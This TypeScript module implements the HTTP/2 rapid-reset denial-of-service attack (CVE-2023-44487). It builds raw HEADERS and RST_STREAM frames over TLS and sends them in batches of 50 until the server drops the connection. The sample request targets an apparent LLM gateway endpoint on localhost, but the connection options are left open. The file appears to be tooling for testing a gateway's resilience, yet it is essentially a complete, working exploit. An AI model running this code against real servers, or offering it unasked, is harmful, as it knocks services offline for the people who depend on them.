/**
 * The rapid-reset attack (CVE-2023-44487) in raw HTTP/2 frames over TLS:
 * after the preface, HEADERS opening an agent stream and RST_STREAM
 * cancelling it at once, in batches, as fast as the socket takes them. A
 * client library would queue streams past the server's concurrency limit
 * and never send them; raw frames reach the server.
 */
import * as tls from "node:tls";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const END_HEADERS = 0x4;
const CANCEL = 0x8;
const BATCH = 50;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** A literal header field without indexing, its name from the static table (index < 15). */
function literal(nameIndex: number, value: string): Buffer {
  const v = Buffer.from(value, "latin1");
  return Buffer.concat([Buffer.from([nameIndex, v.length]), v]);
}

/** POST https://localhost/llmgw.v1.AgentService/Connect, application/connect+proto (HPACK, no Huffman). */
const HEADER_BLOCK = Buffer.concat([
  Buffer.from([0x83, 0x87]), // :method POST, :scheme https (static table)
  literal(4, "/llmgw.v1.AgentService/Connect"), // :path
  literal(1, "localhost"), // :authority
  Buffer.from([0x0f, 0x10]), // content-type (static index 31), then its value
  Buffer.from([25]),
  Buffer.from("application/connect+proto", "latin1"),
]);

function openAndReset(streamId: number): Buffer {
  const code = Buffer.alloc(4);
  code.writeUInt32BE(CANCEL);
  return Buffer.concat([
    frame(HEADERS, END_HEADERS, streamId, HEADER_BLOCK),
    frame(RST_STREAM, 0, streamId, code),
  ]);
}

/**
 * One rapid-reset connection: opens and resets streams until the server
 * closes it or `stopped()` holds; resolves with the streams it reset.
 */
export function rapidResetConnection(
  options: tls.ConnectionOptions,
  stopped: () => boolean,
): Promise<number> {
  const socket = tls.connect({ ...options, ALPNProtocols: ["h2"] });
  socket.on("error", () => {});
  socket.resume();
  let streams = 0;
  let nextId = 1;
  return new Promise<number>((resolve) => {
    socket.once("close", () => resolve(streams));
    socket.once("secureConnect", async () => {
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      while (!socket.destroyed && !stopped()) {
        const batch: Buffer[] = [];
        for (let i = 0; i < BATCH; i++, nextId += 2) batch.push(openAndReset(nextId));
        streams += BATCH;
        if (!socket.write(Buffer.concat(batch))) {
          await new Promise<void>((r) => {
            socket.once("drain", r);
            socket.once("close", r);
          });
        } else await new Promise((r) => setImmediate(r));
      }
      socket.destroy();
    });
  });
}
